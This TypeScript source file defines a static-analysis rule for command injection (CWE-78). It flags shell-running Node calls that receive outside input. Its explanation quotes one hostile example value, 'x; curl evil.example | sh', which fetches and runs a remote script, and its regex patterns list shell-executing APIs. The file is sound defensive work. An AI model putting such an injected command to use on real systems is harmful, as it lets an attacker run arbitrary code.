import { stringValue } from '../../syntax/expressions.ts';
import { fromOutside, type Sink, defineSinkRule } from '../sink-rule.ts';
import { isTainted, taintedHole, type Value } from '../../flow/value.ts';
import type { CallSite, SourceFile } from '../source-file.ts';

const shellCalls =
  /^child_process\.(exec|execSync)$|^shelljs(\.default)?\.exec$|^execa\.(execaCommand|execaCommandSync|command|commandSync)$|^ssh2\.Client#\.exec$|^node-cmd\.(run|runSync|get)$|^node-ssh\.NodeSSH#\.execCommand$/;
const fileCalls =
  /^child_process\.(spawn|spawnSync|execFile|execFileSync|fork)$|^execa(\.(execa|execaSync|execaNode|sync|node))?$|^cross-spawn(\.(spawn|sync))?$|^global\.Bun\.(spawn|spawnSync)$|^global\.Deno\.Command$/;
const shellProgram = /(^|[\\/])(sh|bash|zsh|dash|ksh|cmd|cmd\.exe|powershell|powershell\.exe|pwsh)$/;

export const commandInjection = defineSinkRule({
  id: 'security/command-injection',
  title: '`{source}` becomes part of a shell command in `{sink}`',
  cwe: 'CWE-78',
  severity: 'critical',
  purpose: 'command',
  why: 'The shell reads the whole text: a value such as `x; curl evil.example | sh` runs as a command of its own, with the rights of this process.',
  instead: 'Pass the program and its arguments as a list, without a shell, and put `--` before values.',
  example: "execFile('git', ['clone', '--', url]);",
  accepts: (value) => fromOutside(value) || isParameterInCommand(value),
  *sinks(file) {
    for (const call of file.calls()) {
      if (shellCalls.test(call.name)) yield* sinkAt(call, 0);
      else if (fileCalls.test(call.name)) yield* fileSinks(file, call);
    }
  },
});

/** A caller's value next to a written command word; a bare parameter is a wrapper whose callers decide. */
function isParameterInCommand(value: Value): boolean {
  return isTainted(value) && /[a-z]/i.test(value.shape.replaceAll(taintedHole, ''));
}

function* sinkAt(call: CallSite, index: number): Iterable<Sink> {
  const argument = call.arguments[index];
  if (argument !== undefined) yield { node: call.node, argument, name: call.name.replace(/^global\./, '') };
}

function* fileSinks(file: SourceFile, call: CallSite): Iterable<Sink> {
  const options = call.arguments.findLast((argument) => file.objectOf(argument) !== undefined);
  const shell = file.option(options, 'shell');
  const usesShell = shell !== undefined && shell.kind !== 'false' && shell.text !== 'undefined';
  const program = stringValue(call.arguments[0]) ?? '';
  for (const sink of sinkAt(call, 0)) yield { ...sink, ...(usesShell ? {} : { accepts: fromOutside }) };
  if (usesShell || shellProgram.test(program)) yield* sinkAt(call, 1);
}
